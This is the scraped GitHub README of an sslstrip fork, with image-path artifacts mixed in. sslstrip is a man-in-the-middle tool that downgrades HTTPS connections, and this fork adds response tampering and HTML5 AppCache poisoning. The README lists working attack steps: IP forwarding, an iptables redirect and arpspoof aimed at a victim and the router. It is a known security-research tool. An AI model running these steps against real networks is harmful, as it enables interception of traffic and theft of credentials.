Skip to content
A tool for exploiting Moxie Marlinspike's SSL "stripping" attack.
Python Shell
Pull request Compare This branch is 22 commits ahead of moxie0:master.
Fetching latest commit…
Cannot retrieve the latest commit at this time.
Failed to load latest commit information.


sslstrip is a MITM tool that implements Moxie Marlinspike's SSL stripping

This fork can also perform response tampering attacks.

One prepared example of tampering attack is HTML5 AppCache poisoning attack that places the
modified responses in browsers long-lasting HTML5 AppCache so that the spoofing continues
even after the victim is no longer MITMed. This functionality has been added by Krzysztof Kotowicz
<kkotowicz at gmail dot com>

It requires Python 2.5 or newer, along with the 'twisted' python module.

    * Unpack: tar zxvf sslstrip-0.5.tar.gz
    * Install twisted:  sudo apt-get install python-twisted-web
    * (Optionally) run 'python install' as root to install,
      or you can just run it out of the directory.

    sslstrip can be run from the source base without installation.
    Just run 'python -h' as a non-root user to get thecommand-line options.

    The four steps to getting this working (assuming you're running Linux)

    1) Flip your machine into forwarding mode (as root):
       echo "1" > /proc/sys/net/ipv4/ip_forward

    2) Setup iptables to intercept HTTP requests (as root):
       iptables -t nat -A PREROUTING -p tcp --destination-port 80 -j REDIRECT --to-port <yourListenPort>
    3) Run sslstrip with the command-line options you'd like (see above).4) Run arpspoof to redirect traffic to your machine (as root):
       arpspoof -i <yourNetworkdDevice> -t <yourTarget> <theRoutersIpAddress>

More Info:
Something went wrongwith that request. Please try again.